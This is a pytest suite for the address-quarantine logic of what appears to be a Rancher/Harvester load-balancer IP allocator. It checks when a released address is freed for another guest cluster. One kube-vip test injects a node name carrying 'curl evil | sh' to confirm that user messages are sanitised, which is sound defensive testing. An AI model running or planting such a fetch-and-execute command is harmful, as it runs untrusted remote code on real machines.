"""Quarantine: it ends when a visit of the former guest cluster, begun after its end, does not find the address."""

from datetime import datetime, timedelta

import pytest

from tests.harness.fleet import Fleet, build_fleet
from tests.harness.history import FLOATING_IPS, RESERVATIONS

A, B, C = "c-m-a", "c-m-b", "c-m-c"
X, Y = "10.0.0.10", "10.0.0.11"
NAME = f"default.{X}"
QUARANTINE = 600
ENDED = 2 * QUARANTINE
"""A quarantine and the visit after it are over by then."""
HOUR = 3600
ONE = {"iprange": f"{X}-{X}"}


async def had(
    *, imported: bool = False, custom: bool = False, provider: str = "k3s", **spec: object
) -> Fleet:
    """Have a range of one address that A had; B waits for it."""
    fleet = Fleet()
    fleet.add_range(**{**ONE, **spec})  # type: ignore[arg-type]
    fleet.add_guest(A, imported=imported, custom=custom, provider=provider)
    fleet.add_guest(B)
    await fleet.start(leader_election=False)
    fleet.ask(A)
    await fleet.pass_time(5)
    assert fleet.holders(X) == {A}
    fleet.ask(B)
    fleet.give_up(A)
    await fleet.pass_time(5)
    assert (fleet.held(), fleet.quarantined()) == ({}, {NAME})
    return fleet


# How it ends


@pytest.mark.parametrize(
    ("image", "is_free"),
    [
        ("example/kube-vip:v1.2.3", False),
        ("example/kube-vip:v1.2.4", True),
        ("example/kube-vip@sha256:0", False),
    ],
)
async def test_kube_vip_before_1_2_4_announces_a_service_on_that_left_type_load_balancer(
    image: str, is_free: bool
) -> None:
    fleet = Fleet()
    fleet.set_options(operateGuestClusterInterval="60")
    fleet.add_range(**ONE, quarantineSeconds=90)
    fleet.add_range("second", "10.0.1.1-10.0.1.9")
    guest = fleet.add_guest(A)
    fleet.add_guest(B)
    fleet.opt_in(A)
    await fleet.start(leader_election=False)
    fleet.ask(A)
    fleet.ask(A, name="other", range_name="second")
    await fleet.pass_time(60)
    daemon_set = guest.objects["daemonsets", "kube-system", "kube-vip"]
    daemon_set["spec"]["template"]["spec"]["containers"][0]["image"] = image
    guest.announce(X)
    guest.stop_announcing(note=X)
    fleet.give_up(A)
    fleet.ask(B, range_name="pool", ipaddress=X)
    await fleet.pass_time(600)
    assert fleet.holders(X) == ({B} if is_free else set())
    if not is_free:
        message = fleet.message(B)
        assert "default/web" in message
        assert "node n1" in message
        guest.stop_announcing(note=X, node="n1 (run: curl evil | sh)")
        await fleet.pass_time(200)
        assert "curl" not in fleet.message(B)
        assert "kube-vip.io/vipHost" in message
        guest.remove_service()
        await fleet.pass_time(600)
        assert fleet.holders(X) == {B}


async def test_an_address_that_its_former_guest_cluster_no_longer_uses_is_free_after_its_quarantine() -> None:
    fleet = await had()
    assert fleet.condition(B) == ("False", "RangeFull")
    await fleet.pass_time(QUARANTINE - 20)
    assert fleet.held() == {}
    await fleet.pass_time(ENDED)
    assert (fleet.held(), fleet.guests[B].addresses) == ({NAME: B}, {X})
    assert fleet.problems == []


async def test_an_address_stays_in_quarantine_while_its_former_guest_cluster_uses_it() -> None:
    fleet = await had()
    fleet.guests[A].add_service(X)
    await fleet.pass_time(ENDED)
    await fleet.skip_time(24 * HOUR)
    await fleet.pass_time(ENDED)
    assert fleet.quarantined() == {NAME}
    fleet.guests[A].remove_service()
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}


async def test_who_asks_for_an_address_in_quarantine_is_told_what_keeps_it_there_and_what_to_do() -> None:
    fleet = await had()
    fleet.guests[A].add_service(X)
    fleet.ask_for_another(B, X)
    await fleet.pass_time(ENDED)
    assert fleet.message(B).endswith(
        f"Service default/web in guest cluster {A} uses it. Remove it there, or choose another address."
    )
    fleet.guests[A].silent = True
    await fleet.pass_time(ENDED)
    assert fleet.message(B).endswith(" UTC. Check that it answers, or choose another address.")


async def test_the_addresses_that_a_guest_cluster_still_uses_stay_in_quarantine_and_no_others() -> None:
    fleet = build_fleet(A)
    await fleet.start(leader_election=False)
    for number in range(3):
        fleet.ask(A, name=f"web-{number}")
        await fleet.settle()
    fleet.guests[A].add_service(X)
    for number in range(2):
        fleet.give_up(A, f"web-{number}")
    await fleet.pass_time(ENDED)
    assert (fleet.held(), fleet.quarantined()) == ({"default.10.0.0.12": A}, {NAME})


@pytest.mark.parametrize("is_held", [True, False])
async def test_an_address_is_neither_released_nor_freed_under_a_floating_ip_that_is_not_known_yet(
    *, is_held: bool
) -> None:
    fleet = build_fleet(A)
    running = await fleet.start(leader_election=False, resync_seconds=1e6)
    assert running.watch is not None
    running.watch.muted = {FLOATING_IPS}
    fleet.ask(A, has="" if is_held else X)
    fleet.reserve(X, A, until=None if is_held else fleet.now + timedelta(seconds=QUARANTINE))
    await fleet.pass_time(ENDED)
    commits = [each.obj for each in fleet.memory.commits if each.key == (RESERVATIONS, "", NAME)]
    assert commits[0] is not None
    assert None not in commits
    assert fleet.held() == {NAME: A}
    assert not is_held or {each["spec"].get("quarantinedUntil") for each in commits if each} == {None}


async def test_an_address_is_free_at_once_when_an_administrator_deletes_its_reservation_in_quarantine() -> (
    None
):
    fleet = await had()
    fleet.remove_reservation(NAME)
    await fleet.pass_time(5)
    assert fleet.held() == {NAME: B}


# No guest cluster to ask


async def test_a_guest_cluster_that_rancher_made_and_that_is_gone_counts_as_clean() -> None:
    fleet = await had()
    fleet.guests[A].add_service(X)
    fleet.remove_guest(A)
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}


async def test_a_harvester_cluster_counts_as_clean() -> None:
    fleet = await had(imported=True, provider="harvester")
    fleet.guests[A].add_service(X)
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}


# An imported or custom guest cluster lives on when Rancher knows it no more


@pytest.mark.parametrize("kind", ["imported", "custom"])
async def test_the_address_of_an_imported_or_custom_guest_cluster_that_is_gone_waits_a_day(kind: str) -> None:
    fleet = await had(**{kind: True})  # type: ignore[arg-type]
    fleet.remove_guest(A)
    await fleet.pass_time(ENDED)
    fleet.change(B, ipaddress=X)
    await fleet.settle()
    until = datetime.fromisoformat(fleet.memory.objects[RESERVATIONS, "", NAME]["spec"]["quarantinedUntil"])
    assert 0 <= (until - fleet.now).total_seconds() / HOUR - 23.5 < 0.5
    await fleet.skip_time(22.5 * HOUR)
    await fleet.settle()
    assert (fleet.quarantined(), fleet.condition(B)) == ({NAME}, ("False", "AddressQuarantined"))
    assert A in fleet.message(B)
    assert f"until {until:%Y-%m-%d %H:%M:%S} UTC" in fleet.message(B)
    await fleet.skip_time(2 * HOUR)
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}


async def test_the_address_of_an_imported_guest_cluster_that_comes_back_without_it_waits_no_longer() -> None:
    fleet = await had(imported=True)
    fleet.remove_guest(A)
    await fleet.pass_time(ENDED)
    fleet.add_guest(A, imported=True)
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}


async def test_the_day_begins_when_a_leader_finds_the_guest_cluster_gone_and_not_with_the_release() -> None:
    fleet = await had(imported=True)
    fleet.guests[A].hanging = True
    await fleet.skip_time(72 * HOUR)
    await fleet.pass_time(10)
    await fleet.stop()
    fleet.remove_guest(A)
    await fleet.start(leader_election=False)
    await fleet.skip_time(23 * HOUR)
    await fleet.pass_time(60)
    assert fleet.quarantined() == {NAME}
    await fleet.skip_time(2 * HOUR)
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}


async def test_an_imported_guest_cluster_that_comes_back_and_leaves_again_has_its_day_again() -> None:
    fleet = await had(imported=True)
    fleet.guests[A].add_service(X)
    fleet.remove_guest(A)
    await fleet.skip_time(20 * HOUR)
    await fleet.pass_time(ENDED)
    fleet.add_guest(A, imported=True)
    await fleet.pass_time(30)
    fleet.remove_guest(A)
    await fleet.pass_time(30)
    await fleet.skip_time(23 * HOUR)
    await fleet.pass_time(60)
    assert fleet.quarantined() == {NAME}
    await fleet.skip_time(2 * HOUR)
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}


async def test_both_addresses_of_an_imported_guest_cluster_that_leaves_while_it_is_read_wait_a_day() -> None:
    fleet = Fleet()
    fleet.add_range(iprange=f"{X}-{X},fd00::10-fd00::10", quarantineSeconds=60)
    guest = fleet.add_guest(A, imported=True)
    await fleet.start(leader_election=False)
    fleet.ask(A, ipFamilyPolicy="RequireDualStack")
    await fleet.pass_time(5)
    guest.add_service(X, "fd00::10")
    fleet.give_up(A)
    await fleet.pass_time(50)
    guest.seconds = 4.0
    await fleet.pass_time(20)
    fleet.remove_guest(A)
    await fleet.pass_time(ENDED)
    await fleet.skip_time(22 * HOUR)
    assert len(fleet.quarantined()) == 2
    await fleet.skip_time(3 * HOUR)
    await fleet.pass_time(ENDED)
    assert fleet.quarantined() == set()


async def test_a_quarantine_that_ended_while_no_leader_worked_is_checked_by_the_next_one() -> None:
    fleet = build_fleet(A, B, **ONE)
    fleet.reserve(X, A, until=fleet.now - timedelta(days=3))
    fleet.guests[A].add_service(X)
    fleet.ask(B)
    await fleet.start(leader_election=False)
    await fleet.pass_time(ENDED)
    assert fleet.quarantined() == {NAME}
    fleet.guests[A].remove_service()
    await fleet.pass_time(ENDED)
    assert fleet.held() == {NAME: B}
